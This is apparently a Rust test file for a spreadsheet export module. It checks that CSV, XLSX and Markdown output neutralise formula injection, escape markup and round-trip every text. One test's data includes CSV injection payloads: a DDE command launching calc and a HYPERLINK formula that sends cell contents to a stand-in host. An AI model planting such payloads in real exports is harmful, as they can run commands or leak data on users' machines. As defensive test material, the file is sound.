//! Every format against readers that are not ours, and against text that means harm.
#![expect(clippy::unwrap_used, reason = "a test may panic")]

use calamine::{Data, Reader as _, Xlsx};
use proptest::prelude::*;

use super::super::markdown::escaped;
use super::csv::guarded;
use super::*;

struct Row(Vec<Cell>);

impl serde::Serialize for Row {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_seq(self.0.iter().map(|cell| format!("{cell:?}")))
    }
}

impl Tabular for Row {
    fn columns() -> Vec<Column> {
        vec![Column::new("what", 20), Column::new("when", 19), Column::new("how many", 8)]
    }

    fn cells(&self) -> Vec<Cell> {
        self.0.clone()
    }
}

fn row(text: &str) -> Row {
    Row(vec![Cell::text(text), Cell::Time("2026-11-28T20:15:30Z".parse().unwrap()), Cell::count(42)])
}

fn written(format: SheetFormat, rows: &[Row]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut sheet = Sheet::begin::<Row>(format, "rows", Timestamp::UNIX_EPOCH, &mut out).unwrap();
    rows.iter().for_each(|row| sheet.row(row).unwrap());
    sheet.end().unwrap();
    out
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = ::csv::ReaderBuilder::new().from_reader(bytes);
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn is_harmless(text: &str) -> bool {
    !text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
}

/// What a reader of Markdown makes of a row: cells end at bars without a backslash.
fn markdown_cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        let cell = cells.last_mut().unwrap();
        match c {
            '\\' => cell.extend(chars.next()),
            '|' => cells.push(String::new()),
            '&' => {
                let entity: String = chars.by_ref().take_while(|c| *c != ';').collect();
                match (entity.as_str(), entity.strip_prefix('#')) {
                    ("lt", _) => cell.push('<'),
                    ("gt", _) => cell.push('>'),
                    ("amp", _) => cell.push('&'),
                    // Nothing to be seen: what keeps an address from being a link.
                    ("#8203", _) => {}
                    (_, code) => cell.extend(char::from_u32(code.unwrap().parse().unwrap())),
                }
            }
            '`' | '*' | '_' | '[' | ']' | '<' | '>' | '~' | '@' | '#' => panic!("{c} is markup: {line}"),
            c => cell.push(c),
        }
    }
    cells
}

#[test]
fn what_spreadsheets_take_for_formulas_is_text_in_csv() {
    let harm = ["=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1,\"y\")", "=cmd|' /C calc'!A0", "＝1"];
    let rows: Vec<Row> = harm.iter().map(|text| row(text)).collect();
    let read = csv_rows(&written(SheetFormat::Csv, &rows));
    for (cells, text) in read.iter().zip(harm) {
        assert_eq!(cells, &[format!("'{text}"), "2026-11-28T20:15:30Z".to_owned(), "42".to_owned()]);
    }
    assert_eq!(["\ta", "\ra", "\na"].map(guarded), ["'\ta", "'\ra", "'\na"]);
    assert_eq!(guarded("web-1"), "web-1");
    assert_eq!(csv_rows(&written(SheetFormat::Csv, &[])).len(), 0);
}

#[test]
fn a_workbook_is_read_by_a_library_that_is_not_ours() {
    let bytes = written(SheetFormat::Xlsx, &[row("=1+1"), row("käse <&> \u{1b}[31m"), Row(vec![Cell::Empty])]);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(io::Cursor::new(&bytes)).unwrap();
    assert_eq!(book.sheet_names(), ["rows"]);
    let sheet = book.worksheet_range("rows").unwrap();
    let text = |text: &str| Data::String(text.to_owned());
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows[0], [text("what"), text("when"), text("how many")]);
    assert_eq!((&rows[1][0], &rows[1][2]), (&text("=1+1"), &Data::Float(42.0)));
    assert_eq!(rows[2][0], text("käse <&> \u{fffd}[31m"));
    let Data::DateTime(time) = &rows[1][1] else { panic!("{:?}", rows[1][1]) };
    // 2026-11-28 is day 46,354 of spreadsheets.
    assert_eq!((time.as_f64() * 86_400.0).round(), 46_354.0 * 86_400.0 + 72_930.0);
    assert!(book.worksheet_formula("rows").unwrap().is_empty());
    assert_eq!(written(SheetFormat::Xlsx, &[row("a")]), written(SheetFormat::Xlsx, &[row("a")]), "no clock is in it");
}

#[test]
fn what_a_sheet_cannot_hold_goes_to_the_next() {
    let mut out = Vec::new();
    let mut book = xlsx::Xlsx::with_sheets_of(3, Row::columns(), "rows", Timestamp::UNIX_EPOCH, &mut out).unwrap();
    (0..5).for_each(|n| book.row(&row(&format!("row {n}")).0).unwrap());
    book.end().unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(io::Cursor::new(&out)).unwrap();
    assert_eq!(book.sheet_names(), ["rows", "rows 2", "rows 3"]);
    let firsts = book.sheet_names().into_iter().flat_map(|name| {
        let sheet = book.worksheet_range(&name).unwrap();
        sheet.rows().map(|row| row[0].to_string()).collect::<Vec<_>>()
    });
    let firsts: Vec<String> = firsts.collect();
    assert_eq!(firsts, ["what", "row 0", "row 1", "what", "row 2", "row 3", "what", "row 4"]);
}

#[test]
fn a_workbook_filters_and_keeps_its_first_row_in_sight() {
    let bytes = written(SheetFormat::Xlsx, &[row("a"), row("b")]);
    let mut archive = zip::ZipArchive::new(io::Cursor::new(bytes)).unwrap();
    let sheet = io::read_to_string(archive.by_name("xl/worksheets/sheet1.xml").unwrap()).unwrap();
    for part in ["<autoFilter ref=\"A1:C3\"/>", "ySplit=\"1\"", "state=\"frozen\"", "width=\"20"] {
        assert!(sheet.contains(part), "{part}: {sheet}");
    }
    assert!(!sheet.contains("<f>"));
}

#[test]
fn an_export_without_rows_is_whole() {
    assert_eq!(written(SheetFormat::Json, &[]), b"[]\n");
    assert_eq!(written(SheetFormat::Csv, &[]), b"what,when,how many\r\n");
    assert_eq!(written(SheetFormat::Markdown, &[]), b"| what | when | how many |\n|---|---|---|\n");
    let bytes = written(SheetFormat::Xlsx, &[]);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(io::Cursor::new(&bytes)).unwrap();
    assert_eq!(book.worksheet_range("rows").unwrap().rows().count(), 1);
}

proptest! {
    #[test]
    fn csv_gives_back_every_text_and_begins_no_formula(
        texts in prop::collection::vec(prop_oneof![any::<String>(), "[-=+@'\",;\r\n\t a-z]{0,6}"], 1..5),
    ) {
        let rows: Vec<Row> = texts.iter().map(|text| row(text)).collect();
        let read = csv_rows(&written(SheetFormat::Csv, &rows));
        prop_assert_eq!(read.len(), rows.len());
        for (cells, row) in read.iter().zip(&rows) {
            prop_assert!(is_harmless(&cells[0]), "{:?}", cells[0]);
            let wanted = if let Cell::Text(text) = &row.0[0] { text.as_str() } else { "" };
            let quote = if is_harmless(wanted) && !wanted.starts_with(['＝', '＋', '－', '＠']) { "" } else { "'" };
            prop_assert_eq!(&cells[0], &format!("{quote}{wanted}"));
        }
    }

    #[test]
    fn markdown_shows_every_text_as_it_is(texts in prop::collection::vec("[ -~äöü|\\\\\n]{0,40}", 1..4)) {
        let rows: Vec<Row> = texts.iter().map(|text| row(text)).collect();
        let text = String::from_utf8(written(SheetFormat::Markdown, &rows)).unwrap();
        prop_assert_eq!(text.lines().count(), rows.len() + 2);
        for (line, row) in text.lines().skip(2).zip(&rows) {
            let cells = markdown_cells(line);
            prop_assert_eq!(cells.len(), 5, "{}", line);
            let wanted = if let Cell::Text(text) = &row.0[0] { text.as_str() } else { "" };
            prop_assert_eq!(cells[1].trim(), wanted.trim());
        }
    }

    #[test]
    fn no_link_is_made_of_an_address(name in "[a-z]{1,5}") {
        let line = escaped(&format!("https://{name}.example www.{name}.example"), usize::MAX);
        prop_assert!(!line.contains("://") && !line.contains("www."), "{}", line);
    }

    #[test]
    fn no_markup_is_left(text in any::<String>()) {
        prop_assert_eq!(markdown_cells(&escaped(&text, usize::MAX)).concat(), printable(&text, usize::MAX));
    }

    #[test]
    fn a_workbook_gives_back_every_text(text in any::<String>()) {
        let bytes = written(SheetFormat::Xlsx, &[row(&text)]);
        let mut book: Xlsx<_> = calamine::open_workbook_from_rs(io::Cursor::new(&bytes)).unwrap();
        let sheet = book.worksheet_range("rows").unwrap();
        let wanted = if let Cell::Text(text) = Cell::text(&text) { Data::String(text) } else { Data::Empty };
        prop_assert_eq!(&sheet.rows().nth(1).unwrap()[0], &wanted);
    }
}
